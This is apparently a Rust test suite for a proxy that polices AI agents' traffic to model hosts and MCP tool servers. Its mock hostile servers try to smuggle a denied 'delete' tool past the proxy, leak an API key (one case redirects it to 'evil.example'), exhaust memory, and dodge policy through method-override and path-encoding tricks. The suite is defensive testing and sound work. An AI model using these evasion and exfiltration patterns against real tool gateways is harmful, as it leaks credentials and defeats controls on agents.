//! Model hosts and MCP servers that mean harm.
#![forbid(unsafe_code)]
#![allow(clippy::unwrap_used, clippy::expect_used, reason = "a panic is a test's failure report")]

mod wire;

use std::time::{Duration, Instant};

use creto_proto::v1::call_entry::Entry;
use creto_test_support::{Detached, DetachedSidecar, RawUpstream};
use wire::{exchange, status};

async fn whole(to: std::net::SocketAddr, bytes: &[u8]) -> String {
    let mut stream = tokio::net::TcpStream::connect(to).await.unwrap();
    tokio::io::AsyncWriteExt::write_all(&mut stream, bytes).await.unwrap();
    let mut got = Vec::new();
    let _ = tokio::time::timeout(Duration::from_secs(60), tokio::io::AsyncReadExt::read_to_end(&mut stream, &mut got)).await;
    String::from_utf8_lossy(&got).into_owned()
}

const SECRET: &str = "sk-live-0123456789abcdef";

async fn sidecar_for(port: u16, more: &str) -> DetachedSidecar {
    let policy = format!(
        r#"version = 1
name = "p"
[[provider]]
name = "models"
host = "127.0.0.1"
port = {port}
api = "openai"
base = "/v1"
[[mcp_server]]
name = "tickets"
host = "127.0.0.1"
port = {port}
path = "/mcp"
[[route]]
name = "up"
prefix = "/up"
to = "http://127.0.0.1:{port}"
{}"#,
        more.replace("{port}", &port.to_string())
    );
    Detached::policy(policy).start().await
}

const ALL: &str = "[[allow]]\nname = \"all\"\nhost = \"127.0.0.1\"\nport = {port}\n[[deny]]\nname = \"no-delete\"\nhost = \"127.0.0.1\"\nport = {port}\ntool = \"delete\"\n";

fn post(path: &str, headers: &str, body: &str) -> Vec<u8> {
    format!(
        "POST /up{path} HTTP/1.1\r\nhost: a\r\nconnection: close\r\ncontent-type: application/json\r\naccept: application/json, text/event-stream\r\n{headers}content-length: {}\r\n\r\n{body}",
        body.len()
    )
    .into_bytes()
}

const LIST: &str = r#"{"jsonrpc":"2.0","id":1,"method":"tools/list"}"#;
const CALL: &str = r#"{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"search","arguments":{}}}"#;

fn tool(name: &str, says: &str) -> String {
    format!(r#"{{"name":"{name}","description":"{says}","inputSchema":{{"type":"object"}}}}"#)
}

fn listed(tools: &[String]) -> String {
    format!(r#"{{"jsonrpc":"2.0","id":1,"result":{{"tools":[{}]}}}}"#, tools.join(","))
}

fn answer(headers: &str, body: &str) -> Vec<u8> {
    format!("HTTP/1.1 200 OK\r\nconnection: close\r\n{headers}content-length: {}\r\n\r\n{body}", body.len()).into_bytes()
}

fn rss_kib(pid: u32) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    let line = status.lines().find(|line| line.starts_with("VmHWM")).unwrap();
    line.split_whitespace().nth(1).unwrap().parse().unwrap()
}

#[tokio::test]
async fn p01_two_content_encodings() {
    let raw = RawUpstream::answering(answer("content-type: application/json\r\ncontent-encoding: identity\r\ncontent-encoding: gzip\r\n", "\x1f not really")).await;
    let sidecar = sidecar_for(raw.port(), ALL).await;
    let got = exchange(sidecar.proxy(), &post("/mcp", "", LIST)).await;
    println!("P01 {got}");
    assert_eq!(status(&got), 502, "{got}");
}

#[tokio::test]
async fn p02_two_content_types() {
    for types in ["content-type: text/plain\r\ncontent-type: application/json\r\n", "content-type: text/plain\r\ncontent-type: text/event-stream\r\n"] {
        let body = listed(&[tool("delete", "x"), tool("search", "y")]);
        let body = if types.contains("event") { format!("data: {body}\n\n") } else { body };
        let raw = RawUpstream::answering(answer(types, &body)).await;
        let sidecar = sidecar_for(raw.port(), ALL).await;
        let got = exchange(sidecar.proxy(), &post("/mcp", "", LIST)).await;
        println!("P02 {got}");
        assert!(!got.contains("delete"), "{got}");
    }
}

#[tokio::test]
async fn p03_get_stream_other_type() {
    for kind in ["", "content-type: text/plain\r\n", "content-type: application/octet-stream\r\n"] {
        let body = format!("data: {}\n\n", listed(&[tool("delete", "x"), tool("search", "y")]));
        let raw = RawUpstream::answering(answer(kind, &body)).await;
        let sidecar = sidecar_for(raw.port(), ALL).await;
        let got = exchange(sidecar.proxy(), b"GET /up/mcp HTTP/1.1\r\nhost: a\r\naccept: text/event-stream\r\nconnection: close\r\n\r\n").await;
        println!("P03 {got}");
        assert!(!got.contains("delete"), "{kind}: {got}");
    }
}

#[tokio::test]
async fn p04_list_in_call_answer() {
    for body in [
        listed(&[tool("delete", "x"), tool("search", "y")]),
        format!("[{},{}]", r#"{"jsonrpc":"2.0","id":2,"result":{"content":[]}}"#, listed(&[tool("delete", "x")])),
    ] {
        let raw = RawUpstream::answering(answer("content-type: application/json\r\n", &body)).await;
        let sidecar = sidecar_for(raw.port(), ALL).await;
        let got = exchange(sidecar.proxy(), &post("/mcp", "", CALL)).await;
        println!("P04 {got}");
        assert!(!got.contains("delete"), "{got}");
    }
}

fn with_secret(folder: &tempfile::TempDir) -> String {
    let file = folder.path().join("key");
    std::fs::write(&file, SECRET).unwrap();
    format!(
        "{ALL}[[credential]]\nname = \"api\"\nhost = \"127.0.0.1\"\nport = {{port}}\npath = \"/api/**\"\ntype = \"bearer\"\nplain_http = true\nfrom = {{ file = \"{}\" }}\n",
        file.display()
    )
}

#[tokio::test]
async fn p05_secret_in_odd_places() {
    for (what, bytes) in [
        ("reason", format!("HTTP/1.1 200 {SECRET}\r\ncontent-length: 0\r\n\r\n")),
        ("reason of error", format!("HTTP/1.1 401 {SECRET}\r\ncontent-length: 0\r\n\r\n")),
        ("location", format!("HTTP/1.1 302 Found\r\nlocation: https://evil.example/?k={SECRET}\r\ncontent-length: 0\r\n\r\n")),
        ("trailers", format!("HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\ntrailer: x\r\n\r\n2\r\nab\r\n0\r\nx: {SECRET}\r\n\r\n")),
        ("interim", format!("HTTP/1.1 103 Early Hints\r\nlink: {SECRET}\r\n\r\nHTTP/1.1 200 OK\r\ncontent-length: 2\r\n\r\nok")),
        ("early hints reason", format!("HTTP/1.1 102 {SECRET}\r\n\r\nHTTP/1.1 200 OK\r\ncontent-length: 2\r\n\r\nok")),
        ("chunk extension", format!("HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\n\r\n2;{SECRET}\r\nab\r\n0\r\n\r\n")),
        ("header name", format!("HTTP/1.1 200 OK\r\nx-{SECRET}: 1\r\ncontent-length: 2\r\n\r\nok")),
        ("body, close-delimited", format!("HTTP/1.1 200 OK\r\n\r\n{SECRET}")),
    ] {
        let raw = RawUpstream::answering(bytes).await;
        let folder = tempfile::TempDir::new().unwrap();
        let sidecar = sidecar_for(raw.port(), &with_secret(&folder)).await;
        let got = exchange(sidecar.proxy(), b"GET /up/api/x HTTP/1.1\r\nhost: a\r\nte: trailers\r\nconnection: close, te\r\n\r\n").await;
        assert!(String::from_utf8_lossy(&raw.received()).contains(SECRET), "injected");
        println!("P05 {what} leaked={} {got:?}", got.contains(SECRET));
    }
}

#[tokio::test]
async fn p06_abandoned_call_is_settled() {
    let raw = RawUpstream::start(|mut connection| async move {
        connection.read_head().await;
        tokio::time::sleep(Duration::from_secs(20)).await;
    })
    .await;
    let sidecar = sidecar_for(raw.port(), ALL).await;
    {
        let mut stream = tokio::net::TcpStream::connect(sidecar.proxy()).await.unwrap();
        tokio::io::AsyncWriteExt::write_all(&mut stream, &post("/v1/chat/completions", "", r#"{"model":"gpt-5","messages":[]}"#)).await.unwrap();
        while raw.received().is_empty() {
            tokio::time::sleep(Duration::from_millis(10)).await;
        }
    }
    tokio::time::sleep(Duration::from_millis(300)).await;
    let entries = sidecar.into_entries();
    for entry in entries {
        if let Some(Entry::Ended(ended)) = entry.entry {
            println!("P06 {:?} usage {:?}", ended.outcome(), ended.usage);
            assert!(ended.usage.is_some());
        }
    }
}

#[tokio::test]
async fn p07_many_new_tools() {
    for round in 0..2 {
        let tools: Vec<_> = (0..1000).map(|n| tool(&format!("tool-{n}"), &"x".repeat(100))).collect();
        let body = listed(&tools);
        let raw = RawUpstream::answering(answer("content-type: application/json\r\n", &body)).await;
        let sidecar = sidecar_for(raw.port(), ALL).await;
        let start = Instant::now();
        let got = whole(sidecar.proxy(), &post("/mcp", "", LIST)).await;
        println!("P07 round {round} {:?} {} bytes", start.elapsed(), got.len());
    }
}

#[tokio::test]
async fn p08_event_of_many_lines() {
    let raw = RawUpstream::start(|mut connection| async move {
        connection.read_head().await;
        connection.send(b"HTTP/1.1 200 OK\r\nconnection: close\r\ncontent-type: text/event-stream\r\n\r\n").await;
        connection.send("d\n".repeat(2_097_000).as_bytes()).await;
        connection.send(b"\n\n").await;
        connection.finish().await;
    }).await;
    let sidecar = sidecar_for(raw.port(), ALL).await;
    let before = rss_kib(sidecar.pid());
    let start = Instant::now();
    let got = whole(sidecar.proxy(), &post("/mcp", "", CALL)).await;
    println!("P08 lines: {before} -> {} KiB in {:?}, {} bytes", rss_kib(sidecar.pid()), start.elapsed(), got.len());
    let raw = RawUpstream::start(|mut connection| async move {
        connection.read_head().await;
        connection.send(b"HTTP/1.1 200 OK\r\nconnection: close\r\ncontent-type: text/event-stream\r\n\r\n").await;
        connection.send("data:\n".repeat(699_000).as_bytes()).await;
        connection.send(b"data: tool\n\n\n").await;
        connection.finish().await;
    }).await;
    let sidecar = sidecar_for(raw.port(), ALL).await;
    let before = rss_kib(sidecar.pid());
    let start = Instant::now();
    let got = whole(sidecar.proxy(), &post("/mcp", "", CALL)).await;
    println!("P08 data lines: {before} -> {} KiB in {:?}, {} bytes", rss_kib(sidecar.pid()), start.elapsed(), got.len());
    let body = format!(r#"{{"jsonrpc":"2.0","id":1,"result":{{"x":[{}0],"tools":[]}}}}"#, "0,".repeat(249_000));
    let raw = RawUpstream::answering(answer("content-type: application/json\r\n", &body)).await;
    let sidecar = sidecar_for(raw.port(), ALL).await;
    let before = rss_kib(sidecar.pid());
    let start = Instant::now();
    let got = whole(sidecar.proxy(), &post("/mcp", "", LIST)).await;
    println!("P08 values: {before} -> {} KiB in {:?}, {} bytes", rss_kib(sidecar.pid()), start.elapsed(), got.len());
}

#[tokio::test]
async fn p10_override_to_mcp() {
    let delete = r#"{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"delete","arguments":{}}}"#;
    let raw = RawUpstream::answering(answer("content-type: application/json\r\n", "{}")).await;
    let sidecar = sidecar_for(raw.port(), ALL).await;
    for (what, head) in [
        ("post", "POST /up/mcp HTTP/1.1\r\nhost: a\r\n"),
        ("get", "GET /up/mcp HTTP/1.1\r\nhost: a\r\nx-http-method-override: POST\r\n"),
        ("put", "PUT /up/mcp HTTP/1.1\r\nhost: a\r\nx-http-method-override: POST\r\n"),
        ("lower", "post /up/mcp HTTP/1.1\r\nhost: a\r\n"),
        ("ws", "GET /up/mcp HTTP/1.1\r\nhost: a\r\nconnection: upgrade\r\nupgrade: websocket\r\nsec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\r\nsec-websocket-version: 13\r\n"),
        ("grpc", "POST /up/mcp HTTP/1.1\r\nhost: a\r\ncontent-type: application/grpc\r\n"),
        ("slash", "POST /up/mcp/ HTTP/1.1\r\nhost: a\r\n"),
        ("two slashes", "POST /up//mcp HTTP/1.1\r\nhost: a\r\n"),
        ("case", "POST /up/MCP HTTP/1.1\r\nhost: a\r\n"),
        ("percent", "POST /up/%6dcp HTTP/1.1\r\nhost: a\r\n"),
        ("parameter", "POST /up/mcp;a HTTP/1.1\r\nhost: a\r\n"),
        ("two types", "POST /up/mcp HTTP/1.1\r\nhost: a\r\ncontent-type: text/plain\r\ncontent-type: application/json\r\n"),
        ("stripped type", "POST /up/mcp HTTP/1.1\r\nhost: a\r\ncontent-type: application/grpc\r\nconnection: content-type\r\n"),
    ] {
        for chunked in [false, true] {
            let request = if chunked {
                format!("{head}transfer-encoding: chunked\r\n\r\n{:x}\r\n{delete}\r\n0\r\n\r\n", delete.len())
            } else {
                format!("{head}content-length: {}\r\n\r\n{delete}", delete.len())
            };
            let before = raw.received().len();
            let got = exchange(sidecar.proxy(), request.as_bytes()).await;
            let left = raw.received().len() > before;
            println!("P10 {what} chunked={chunked} left={left} {} {}", status(&got), got.split("creto-refused: ").nth(1).and_then(|t| t.lines().next()).unwrap_or(""));
        }
    }
}
